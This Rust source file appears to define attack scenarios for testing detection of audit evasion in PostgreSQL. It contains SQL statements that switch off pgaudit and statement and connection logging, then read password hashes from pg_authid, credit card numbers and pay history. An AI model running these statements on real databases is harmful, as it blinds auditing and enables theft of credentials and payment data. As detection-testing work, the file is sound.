//! Attacks on the record itself: logging and auditing switched off or made quiet.

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "session_audit_off",
            "a superuser switches the audit of the session off and then reads hashes",
            session_audit_off,
        )
        .technique(&["T1562.008"])
        .role("eve_unaudited", "SUPERUSER"),
        Scenario::attack(
            "role_audit_off",
            "auditing and logging are switched off for two roles",
            role_audit_off,
        )
        .technique(&["T1562.008"])
        .role("eve_role_audit", "SUPERUSER")
        .with(&["clerk_unaudited"]),
        Scenario::attack(
            "log_level_raised",
            "a session raises the log levels until nothing of it is logged",
            log_level_raised,
        )
        .technique(&["T1562.008"])
        .role("eve_quiet", "SUPERUSER"),
        Scenario::attack(
            "logging_off",
            "statement and connection logging is switched off for the whole server",
            logging_off,
        )
        .technique(&["T1562.008"])
        .role("eve_logging_off", "SUPERUSER")
        .alone(),
    ]
}

fn session_audit_off(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "SELECT current_user",
        "SET pgaudit.log = 'none'",
        "SELECT rolname, rolpassword FROM pg_authid",
        "SELECT * FROM sales.credit_card",
        "UPDATE sales.customer SET credit_limit = credit_limit WHERE id = 1",
    ])
}

fn role_audit_off(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "ALTER ROLE clerk_unaudited SET pgaudit.log = 'none'",
        "ALTER ROLE eve_role_audit SET log_statement = 'none'",
        "ALTER ROLE eve_role_audit IN DATABASE shop SET pgaudit.log = 'none'",
    ])?;
    stage
        .connect()?
        .run("SELECT card_number FROM sales.credit_card")
        .map(drop)
}

fn log_level_raised(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "SET log_min_messages = 'panic'",
        "SET log_min_error_statement = 'panic'",
        "SET log_statement = 'none'",
        "SET pgaudit.log_level = 'debug5'",
        "SELECT card_number FROM sales.credit_card",
    ])
}

fn logging_off(stage: &Stage<'_>) -> Result<()> {
    let done = stage.connect()?.run_each([
        "ALTER SYSTEM SET log_statement = 'none'",
        "ALTER SYSTEM SET log_connections = off",
        "ALTER SYSTEM SET log_disconnections = off",
        "ALTER SYSTEM SET pgaudit.log = 'none'",
        "SELECT pg_reload_conf()",
        "SELECT pg_sleep(0.2)",
        "SELECT * FROM humanresources.pay_history",
    ]);
    // Whatever happened, the next scenario finds the logs open.
    stage.restore_settings()?;
    done
}
